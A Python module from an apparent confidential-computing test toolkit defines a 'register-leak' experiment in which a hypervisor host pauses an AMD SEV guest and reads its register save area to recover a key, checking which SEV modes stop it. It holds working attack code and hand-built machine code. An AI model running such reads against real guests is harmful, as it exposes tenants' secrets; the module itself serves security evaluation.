"""Register leak: at every exit the host reads the guest's registers, if the mode does not encrypt them."""

import secrets as randomness
import time

from sevkit.attacks.experiment import Aim, Attack, Expectation, Notebook, Observation, Outcome, Source
from sevkit.attacks.labs import model_lab, program
from sevkit.attacks.labs.guest_lab import GuestLab
from sevkit.errors import InconclusiveError
from sevkit.model import vmsa
from sevkit.model.vcpu import Vcpu
from sevkit.vocabulary import ENCRYPTED, Level, Mode

_PROGRAM = """
    movi rsi, 0x2000
    loadx [rsi]             ; the key goes into xmm0 ...
    load r8, [rsi]          ; ... and half of it into r8
    vmmcall
    hlt
"""


_FACTOR = 0x9E3779B97F4A7C15  # odd, so that the multiplication modulo 2^64 loses nothing
_LOOKS = 12
_NOISE = 200  # a page of ciphertext has at least so many distinct byte values; plaintext registers are mostly zeros


def model(note: Notebook) -> Observation:
    """Stop a guest while a key is in its registers, and read its save area."""
    note.setup("A guest loads an AES key from private memory into registers.")
    platform = model_lab.machine(note)
    guest = model_lab.guest(note, platform, program=_PROGRAM)
    guest.vm.write(model_lab.DATA, model_lab.SECRET)
    note.predict("Whoever can read the save area after the exit has the key, however well the memory is encrypted.")

    ending = Vcpu(guest).run()
    note.guest(f"The guest exits to the host ({ending.reason}) with the key in xmm0.")
    page = platform.host_read(guest.vmsa_spa or 0, 4096)
    at, size = vmsa.FIELDS["xmm0"]
    note.host("The host reads xmm0 from the save area.", page[at : at + size])
    if page[at : at + size] == model_lab.SECRET:
        return note.works("registers-in-clear", "The key is the host's: registers are not encrypted in this mode.")
    return note.stopped("vmsa-encrypted", "The save area is encrypted: the host reads ciphertext.")


def guest(lab: GuestLab, note: Notebook) -> Observation:
    """Stop a real guest while a secret is in its registers, and read its save area."""
    note.setup(f"A program in a real guest ({lab.guest.spec.mode}) computes a key and keeps it in r12 and r13 alone.")
    note.predict("Whoever can read the registers after the exit has the key, however well the memory is encrypted.")
    seed = randomness.randbits(63) | 1
    first = seed * _FACTOR % 2**64
    key = first.to_bytes(8, "little") + (first * _FACTOR % 2**64).to_bytes(8, "little")
    program.start(lab, "keeper", _keeper(seed))
    try:
        pages = [_save_area(lab) for _ in range(_LOOKS)]
    finally:
        program.stop(lab, "keeper")
    note.host(f"The host stops the guest {_LOOKS} times and reads the save area of its processor.", pages[0][:32])
    if any(key in page for page in pages):
        return note.works("registers-in-clear", "The key is the host's: registers are not encrypted in this mode.")
    if min(len(set(page)) for page in pages) < _NOISE:
        raise InconclusiveError("the save area holds neither the key nor ciphertext: the program may not have run")
    return note.stopped("vmsa-encrypted", "The save area is encrypted: the host reads ciphertext.")


def _save_area(lab: GuestLab) -> bytes:
    """A processor's save area as the host sees it now."""
    time.sleep(randomness.randbelow(20) / 1000)  # avoid synchronisation with the guest's timer
    lab.qemu.pause()
    try:
        return lab.host.save_area()
    finally:
        lab.qemu.resume()


def _keeper(seed: int) -> bytes:
    """Machine code: mov rax, seed; mov rcx, factor; imul rax, rcx; mov r12, rax; imul rax, rcx; mov r13, rax; jmp $."""
    load = bytes.fromhex("48b8") + seed.to_bytes(8, "little") + bytes.fromhex("48b9") + _FACTOR.to_bytes(8, "little")
    return load + bytes.fromhex("480fafc1 4989c4 480fafc1 4989c5 ebfe")


_WORKS = Expectation(Outcome.WORKS, "registers lie in the VMCB in clear")
ATTACK = Attack(
    name="register-leak",
    title="Register leak at VMEXIT",
    aim=Aim.CONFIDENTIALITY,
    summary="The host reads the guest's registers after an exit.",
    preconditions=("the host runs the guest",),
    generations="SEV without encrypted state",
    sources=(
        Source("AMD, Protecting VM Register State with SEV-ES, February 2017"),
        Source(
            "Werner et al., The SEVerESt of Them All: Inference Attacks Against Secure Virtual Enclaves, AsiaCCS 2019"
        ),
    ),
    expected={
        Mode.NOSEV: _WORKS,
        Mode.SEV: _WORKS,
        Mode.SEV_ES: Expectation(Outcome.STOPPED, "the VMSA is encrypted"),
        Mode.SEV_SNP: Expectation(Outcome.STOPPED, "the VMSA is encrypted"),
    },
    mitigations=(),
    mitigated=None,
    claim="vm-register-state",
    model=model,
    guest=guest,
    guest_levels=frozenset({Level.EMULATOR}),
    guest_modes=ENCRYPTED,
)
